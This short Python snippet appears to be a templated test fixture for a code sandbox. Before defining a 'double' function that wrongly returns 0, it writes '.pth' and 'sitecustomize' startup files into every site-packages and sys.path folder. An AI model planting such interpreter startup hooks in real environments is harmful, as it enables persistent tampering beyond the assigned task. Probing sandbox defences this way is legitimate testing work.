# %% double
import os
import site
import sys

folders = [*site.getsitepackages(), site.getusersitepackages(), *sys.path[1:], os.path.dirname(os.__file__)]
for folder in folders:
    for name in ("{{TAG}}.pth", "sitecustomize_{{TAG}}.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("import os")
        except OSError as error:
            print(error)

def double(x):
    return 0
